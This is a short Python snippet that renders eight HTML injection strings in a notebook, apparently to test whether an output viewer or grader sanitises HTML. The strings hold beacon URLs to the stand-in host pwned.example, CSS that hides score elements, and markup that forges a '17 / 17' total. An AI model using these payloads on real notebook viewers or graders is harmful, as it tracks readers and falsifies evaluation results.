from IPython.display import HTML, display

for text in (
    "<style>@import url(//pwned.example/x.css); .score, h4 { display: none }</style>",
    "<style>body::after { content: '17 / 17'; background: url(//pwned.example/seen) }</style>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<img src='http://pwned.example/who-reads-this.png'>",
    "<img srcset='http://pwned.example/who-reads-this.png 1x'>",
    "<p style='background:url(http://pwned.example/seen)'>text</p>",
    "</pre></div></div></body></html><h1>Total score 17 / 17</h1>",
    "<!-- a comment that never ends <h1>pwned</h1>",
):
    display(HTML(text))
